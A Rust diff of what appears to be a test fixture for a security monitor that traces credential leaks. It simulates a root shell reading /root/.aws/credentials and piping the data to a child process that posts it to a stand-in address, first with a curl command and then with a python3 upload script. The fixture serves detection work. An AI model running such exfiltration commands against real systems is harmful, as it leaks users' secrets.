@@ -7,7 +7,7 @@ use crate::{
     engine::{Capability, Mode},
     event::{
         Access, Actor, Attempt, Body, Call, Counted, Door, Drop, Event, Exec, Exit, File, Flow, Fork, HolderId, Kernel,
-        Kill, Network, Object, Open, Outcome, Process, Protocol, Relation, SCHEMA,
+        Kill, Network, Object, Open, Outcome, Probe, Process, Protocol, Relation, SCHEMA, Script, Stream,
     },
     policy::Policy,
 };
@@ -15,7 +15,7 @@ use std::{collections::BTreeMap, net::IpAddr, path::Path};
 
 const START: u64 = 90_000_000_000;
 const SHELL: Process = Process { pid: 812, start: START + 1_000_000 };
-const CURL: Process = Process { pid: 815, start: START + 20_000_000 };
+const PYTHON: Process = Process { pid: 815, start: START + 20_000_000 };
 const WORKER: Process = Process { pid: 640, start: 61_000_000_000 };
 const DESTINATION: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(203, 0, 113, 9));
 
@@ -66,8 +66,10 @@ pub(crate) fn events() -> Vec<Event> {
     let pipe = Object::Pipe(File { device: 14, inode: 40_961, generation: 0 });
     let file = |inode| File { device: 8 << 20 | 1, inode, generation: 1_734_001 };
     let bits = |bits| Some(Kernel { bits, ..Kernel::default() });
-    let leak = Some(Kernel { bits: 1, leak: 1, ..Kernel::default() });
-    let argv = ["curl", "-d", "@-", "https://203.0.113.9/"].map(String::from).to_vec();
+    let inherited = |bits| Some(Kernel { inherited: bits, ..Kernel::default() });
+    let leak = Some(Kernel { bits: 9, leak: 1, weak: 8, ..Kernel::default() });
+    let dropped = Some(Kernel { bits: 1, leak: 1, ..Kernel::default() });
+    let argv = ["python3", "/usr/bin/upload", "--quiet", "‹redacted:40›"].map(String::from).to_vec();
     let network = Network {
         call: Call::Connect,
         address: DESTINATION,
@@ -87,7 +89,11 @@ pub(crate) fn events() -> Vec<Event> {
             Body::Open(Open { path: "/root/.aws/credentials".into(), file: file(7), read: true, write: false }),
             bits(1),
         ),
-        (Some(SHELL), Body::Attempt(Attempt { path: "/root/.npmrc".into(), errno: 2 }), None),
+        (
+            Some(SHELL),
+            Body::Attempt(Attempt { path: "/root/.npmrc".into(), errno: 2, call: Probe::Stat, program: None }),
+            None,
+        ),
         (
             Some(SHELL),
             Body::Access(Access {
@@ -99,28 +105,39 @@ pub(crate) fn events() -> Vec<Event> {
             }),
             None,
         ),
-        (Some(SHELL), Body::Fork(Fork { child: CURL, holder: holder(CURL), step: 2 }), bits(1)),
         (
-            Some(CURL),
+            Some(SHELL),
+            Body::Fork(Fork { child: PYTHON, holder: holder(PYTHON), step: 2 }),
+            Some(Kernel { bits: 1, own: 2, soft: 4, inherited: 8, ..Kernel::default() }),
+        ),
+        (
+            Some(PYTHON),
             Body::Exec(Exec {
-                before: holder(CURL),
+                before: holder(PYTHON),
                 entered: None,
-                path: "/usr/bin/curl".into(),
+                path: "/usr/bin/python3".into(),
                 file: file(9),
                 argv,
                 argv_cut: 12,
                 uid: 0,
-                ..Exec::default()
+                program: 4,
+                script: 5,
+                skip: 2,
+                injected: true,
+                fresh: true,
+                copied: 1,
+                stdout: Stream::Pipe,
+                line: 1,
             }),
-            bits(1),
+            Some(Kernel { bits: 1, inherited: 8, ..Kernel::default() }),
         ),
-        (Some(CURL), Body::Script(crate::event::Script { program: 0 }), None),
-        (Some(SHELL), Body::Give(Flow::new(pipe, 8)), bits(1)),
-        (Some(CURL), Body::Take(Flow::new(pipe, 8)), bits(1)),
-        (Some(CURL), Body::Network(network), leak),
-        (Some(CURL), Body::Drop(drop), leak),
-        (Some(CURL), Body::Kill(Kill { errno: 0 }), None),
-        (Some(CURL), Body::Exit(Exit { code: 0, signal: 9 }), None),
+        (Some(PYTHON), Body::Script(Script { program: 0 }), None),
+        (Some(SHELL), Body::Give(Flow { plain: true, ..Flow::new(pipe, 8) }), inherited(1)),
+        (Some(PYTHON), Body::Take(Flow { handed: true, ..Flow::new(pipe, 8) }), inherited(1)),
+        (Some(PYTHON), Body::Network(network), leak),
+        (Some(PYTHON), Body::Drop(drop), dropped),
+        (Some(PYTHON), Body::Kill(Kill { errno: 0 }), None),
+        (Some(PYTHON), Body::Exit(Exit { code: 0, signal: 9 }), None),
         (None, Body::Lost(Counted { counters: lost }), None),
         (None, Body::Unexplained { leaks: 1 }, None),
     ];
